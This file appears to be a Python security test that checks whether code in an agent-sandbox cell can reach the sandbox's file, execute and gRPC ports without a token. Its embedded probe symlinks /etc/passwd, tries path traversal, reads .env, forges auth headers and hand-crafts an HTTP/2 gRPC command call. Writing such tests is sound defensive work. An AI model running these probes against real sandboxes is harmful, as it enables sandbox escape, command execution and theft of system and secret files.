# SPDX-License-Identifier: Apache-2.0
"""A cell goes to agent-sandbox's ports without a token: commands, files, links out, gRPC"""

from box import Box, Mode

BREAKS = ("docs/agent-sandbox.md", "Requests bring `IPYBOX_TOKEN` or `IPYBOX_EXECUTE_TOKEN`")

CODE = r"""
import http.client, itertools, json, os
own = w.own_token()
os.path.lexists('out') or os.symlink('/etc/passwd', 'out')
names = ('.', 'out', '.env', '..%2F..%2Fetc%2Fpasswd')
calls = [(8888, 'GET', f'/{what}/{name}') for what in ('download', 'list', 'exists') for name in names]
calls += [(8888, 'POST', '/execute'), (8888, 'POST', '/upload'), (9888, 'GET', '/v1/metadata')]
calls += [(9888, method, '/v1/files/' + name) for method in ('GET', 'HEAD', 'PUT', 'DELETE') for name in (*names, 'planted')]
heads = [{}, {'X-Ipybox-Token': own}, {'X-Ipybox-Token': ''}, {'Authorization': 'Bearer ' + own},
         {'X-Sandbox-ID': 'default', 'X-Sandbox-Port': '8888', 'X-Forwarded-For': '127.0.0.1'}]
body = json.dumps({'command': 'touch /app/workspace/planted'}).encode()
def ask(port, method, path, head):
    c = http.client.HTTPConnection('127.0.0.1', port, timeout=20)
    c.request(method, path, body, {'Content-Type': 'application/json', **head})
    answer = c.getresponse()
    if answer.status < 400: print('ANSWERED', port, method, path, head, answer.status)
def call_grpc(head):
    # One Execute, by HTTP/2 written by hand: `touch planted`.
    import socket, struct
    def frame(kind, flags, stream, body): return struct.pack('>I', len(body))[1:] + struct.pack('>BBI', kind, flags, stream) + body
    def field(name, value): return bytes([0, len(name)]) + name.encode() + bytes([len(value)]) + value.encode()
    fields = {':method': 'POST', ':scheme': 'http', ':authority': 'a', ':path': '/process.v1.ProcessService/Execute', 'content-type': 'application/grpc', **head}
    words = b''.join(b'\x0a' + bytes([len(w)]) + w for w in (b'touch', b'/app/workspace/planted'))
    message = b'\x0a' + bytes([len(words)]) + words
    c = socket.create_connection(('127.0.0.1', 9090), 20)
    c.sendall(b'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n' + frame(4, 0, 0, b'') + frame(1, 4, 1, b''.join(field(k.lower(), v) for k, v in fields.items()))
              + frame(0, 1, 1, b'\0' + struct.pack('>I', len(message)) + message))
    c.settimeout(5)
    w.tried(lambda: [c.recv(65536) for _ in range(3)])
from concurrent.futures import ThreadPoolExecutor  # wrong tokens are answered late
with ThreadPoolExecutor(32) as pool:
    for call, head in itertools.product(calls, heads):
        pool.submit(w.tried, lambda c=call, h=head: ask(*c, h))
    for head in heads:
        pool.submit(w.tried, lambda h=head: call_grpc({k: v[:120] for k, v in h.items()}))
if os.path.lexists('planted'): print('ANSWERED with a file')
"""


def box_for(mode: Mode) -> Box:
    return Box(
        mode,
        words=[
            "--agent-sandbox",
            "--agent-sandbox-rest-port",
            "9888",
            "--agent-sandbox-grpc-port",
            "9090",
        ],
    )


def attack(box: Box) -> str:
    box.run()
    told = box.cell(CODE, box.session())
    return "; ".join(line for line in told.splitlines() if line.startswith("ANSWERED"))
